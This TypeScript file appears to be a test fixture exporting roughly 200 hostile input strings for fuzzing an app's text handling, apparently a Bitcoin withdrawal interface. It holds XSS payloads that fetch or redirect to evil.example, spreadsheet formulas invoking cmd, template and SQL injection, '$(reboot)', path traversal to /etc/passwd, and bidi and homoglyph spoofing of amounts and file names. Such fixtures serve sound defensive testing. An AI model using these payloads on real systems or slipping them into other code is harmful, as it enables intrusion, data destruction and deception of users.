/**
 * What somebody writes where a word is expected, to have it run, to have it read as something else, or to push away what
 * stands beside it. 200 of them, each once.
 */
const SCRIPTS = [
  ...['alert(1)', 'fetch("https://evil.example/")', 'document.title="owned"', 'location="https://evil.example/"'],
];
const MARKUP = SCRIPTS.flatMap((script) => [
  `<script>${script}</script>`,
  `<img src=x onerror='${script}'>`,
  `"><svg onload='${script}'>`,
  `'-${script}-'`,
  `</title><script>${script}</script>`,
  `<a href="javascript:${script}">Approve</a>`,
  `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  `<details open ontoggle='${script}'>x</details>`,
]);
const ELEMENTS = [
  ...['<b>0.1 BTC</b>', '<h1>Approved</h1>', '<style>*{display:none}</style>', '<base href="https://evil.example/">'],
  ...['<meta http-equiv=refresh content="0;url=https://evil.example/">', '<link rel=stylesheet href=//evil.example>'],
  ...['<form action=//evil.example><input name=a></form>', '<math><mtext></table><mglyph>', '<!--', ']]>', '<![CDATA['],
  ...['<noscript><p title="</noscript><img src=x>">', '<template shadowrootmode=open>', '<object data=//evil.example>'],
  ...['&lt;script&gt;', '&#x3c;img&#x3e;', '\\u003cscript\\u003e', '%3Cscript%3E', '<ｓcript>', '＜script＞'],
];
const DIRECTIONS = ['\u202a', '\u202b', '\u202d', '\u202e', '\u2066', '\u2067', '\u2068', '\u200e', '\u200f', '\u061c'];
const BIDI = DIRECTIONS.flatMap((mark) => [`${mark}CTB 1.0`, `0.1${mark}00 BTC`, `w-1${mark}gpj.exe\u202c`]);
const UNSEEN = [
  ...['\u200b', '\u200c', '\u200d', '\u2060', '\ufeff', '\u00ad', '\u034f', '\u180e', '\u2063', '\u3164', '\u115f'],
].flatMap((mark) => [`cus${mark}tomer-1`, mark.repeat(20)]);
const CONTROLS = [
  ...['a\u0000b', 'a\u0008\u0008b', '\u001b[2J\u001b[31mPAID', 'a\r\nb', 'a\nNothing is wrong', 'a\tb', 'a\u0085b'],
  ...['a\u2028b', 'a\u2029b', 'a\u007fb', 'a\u009bb', '\ud800', 'a\udfffb', '\ufffe', '\u{e0041}\u{e0042}', '\ue000'],
];
const FORMULAS = [
  ...['=1+1', '=HYPERLINK("https://evil.example";"open")', "=cmd|' /C calc'!A0", '@SUM(1+1)', '+1+1', '-1+1', '\t=1+1'],
  ...['=IMPORTXML("https://evil.example";"//a")', '"=1+1"', ';=1+1', '=DDE("cmd";"/C calc";"x")', '|calc'],
];
const TEMPLATES = [
  ...[
    '{count}',
    '{name}',
    '{amount',
    '}',
    '{count, plural, one {#} other {#}}',
    '{0}',
    '{time, date, full}',
    "'{'",
    '#',
  ],
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    '${alert(1)}',
    '#{1+1}',
    '<%= 1+1 %>',
    '{{7*7}}',
    '[[${1}]]',
    '%s%n',
  ],
  ...['<b>{name}</b>', '{amount, number, ::currency/USD}', '__proto__', 'constructor', 'toString', 'undefined', 'null'],
];
const SCRIPTURE = [
  ...['שלום 0.1', 'مرحبا ١٢٣', '0.1 ₿ אבג 0.2', '👩‍👩‍👧‍👦'.repeat(9), '🏴‍☠️', 'é'.normalize('NFD').repeat(40), 'Z̷̢̛͓͕͓̰̪̪̈́̔͊͒̈́͘'.repeat(4)],
  ...['раypal', 'BТC', '０．１', '\u{1d7d8}.\u{1d7d9}', 'ﷺ', '꧅'.repeat(30), '承認済み', '\u3000\u3000承認', 'İi̇', 'ß'],
];
const ADDRESSES = [
  ...['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '//evil.example', 'https://evil.example/?a=1'],
  ...['/../../v1/console/session', '..%2f..%2fetc%2fpasswd', '?state=open&cursor=', '#genesis=1', 'file:///etc/passwd'],
  ...[
    '\\\\evil.example\\share',
    'blob:https://evil.example/1',
    "'; DROP TABLE withdrawal; --",
    '" OR ""="',
    '$(reboot)',
  ],
];
const LONG = [
  ...[
    'x'.repeat(99),
    '1'.repeat(100),
    '،'.repeat(60),
    'ก็็็็็็็็็็'.repeat(6),
    'w-1/'.repeat(25),
    'W'.repeat(100),
    'bcrt1'.repeat(19),
    '長'.repeat(90),
    'a b '.repeat(24),
    '-'.repeat(95),
    '𝕏'.repeat(48),
  ],
];
/** Far more than anything is meant to take. */
const ENORMOUS = ['<b>'.repeat(34_000), 'x'.repeat(100_000), '\u202e'.repeat(100_000)];

export const HOSTILE_STRINGS: readonly string[] = [
  ...[MARKUP, ELEMENTS, BIDI, UNSEEN, CONTROLS, FORMULAS, TEMPLATES, SCRIPTURE, ADDRESSES, LONG, ENORMOUS].flat(),
];
